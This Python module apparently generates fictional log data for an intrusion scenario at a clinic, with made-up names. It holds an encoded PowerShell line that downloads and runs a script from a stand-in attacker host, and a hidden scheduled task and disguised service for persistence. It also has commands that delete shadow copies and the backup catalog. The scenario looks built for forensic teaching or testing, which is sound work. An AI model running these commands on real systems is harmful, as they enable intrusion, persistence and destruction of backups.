"""The night of 14 October as every log must tell it: times, session, commands; names and addresses are made up."""

from __future__ import annotations

import base64
from datetime import datetime

from examples.clinic.generate.clock import local
from examples.clinic.generate.security import REMOTE, Session
from examples.clinic.generate.story import DC, EPJ, NIGHT_VISITOR, SUPPLIER

FIRST_TRY = local(14, 1, 12, 8.41)
LAST_TRY = local(14, 1, 40, 21.77)
INSIDE = local(14, 1, 41, 12.306)
ON_DC = local(14, 2, 3, 40.118)
CLEARED = local(14, 2, 8, 15.902)
LEFT = local(14, 2, 10, 44.02)

SESSION = Session(SUPPLIER, EPJ, REMOTE, NIGHT_VISITOR, "0x5a3b1c7", client="WIN-7K2")
SESSION_ON_DC = Session(SUPPLIER, DC, REMOTE, EPJ.address, "0x1f40a92")
BACKUP_ACCOUNT = "svc_backup2"
BACKUP_SID = "S-1-5-21-3912045571-1770342285-2208846011-1003"
"""A local account, so the SID is the machine's own and not the domain's."""

_SCRIPT = f"IEX (New-Object Net.WebClient).DownloadString('http://{NIGHT_VISITOR}/oppdatering.ps1')"
ENCODED = base64.b64encode(_SCRIPT.encode("utf-16-le")).decode()

DUMP_FILE = r"C:\Users\Public\Libraries\ls.dmp"
SERVICE_NAME = "WinHelpUpd"
SERVICE_PATH = r"C:\Users\Public\Libraries\whu.exe -k netsvcs"
TASK_NAME = r"\Microsoft\Windows\Hjelp\OppdaterHjelp"
TASK_COMMAND = r"C:\Users\Public\Libraries\whu.exe"
TASK_CONTENT = "\r\n".join(
    (
        '<?xml version="1.0" encoding="UTF-16"?>',
        '<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">',
        "  <Triggers><CalendarTrigger><StartBoundary>2026-10-15T02:10:00</StartBoundary>",
        "    <ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger></Triggers>",
        '  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId>',
        "    <RunLevel>HighestAvailable</RunLevel></Principal></Principals>",
        "  <Settings><Hidden>true</Hidden><Enabled>true</Enabled></Settings>",
        f'  <Actions Context="Author"><Exec><Command>{TASK_COMMAND}</Command></Exec></Actions>',
        "</Task>",
    )
)

WHOAMI = local(14, 1, 45, 10.25)
ADMINS = local(14, 1, 46, 2.518)
POWERSHELL = local(14, 1, 49, 37.083)
DUMP = local(14, 1, 53, 20.611)
DEFENDER_OFF = local(14, 1, 51, 5.447)
USER_MADE = local(14, 1, 56, 48.73)
GROUP_JOINED = local(14, 1, 57, 3.214)
SERVICE_MADE = local(14, 1, 59, 31.9)
TASK_MADE = local(14, 2, 1, 9.65)

VISITS = (
    (local(15, 2, 17, 30.2), local(15, 2, 51, 12.8)),
    (local(17, 2, 58, 4.9), local(17, 3, 7, 30.3)),
)
"""The session left open on LV-EPJ is taken up again: for the look-ups of 15 October, and on 17 October."""

DC_VISIT = local(17, 3, 2, 51.4)
SHADOWS_DELETED = local(17, 3, 5, 12.377)
CATALOG_DELETED = local(17, 3, 5, 49.028)
DC_COMMANDS: tuple[tuple[datetime, str, str], ...] = (
    (SHADOWS_DELETED, r"C:\Windows\System32\vssadmin.exe", "vssadmin  delete shadows /all /quiet"),
    (CATALOG_DELETED, r"C:\Windows\System32\wbadmin.exe", "wbadmin  delete catalog -quiet"),
)
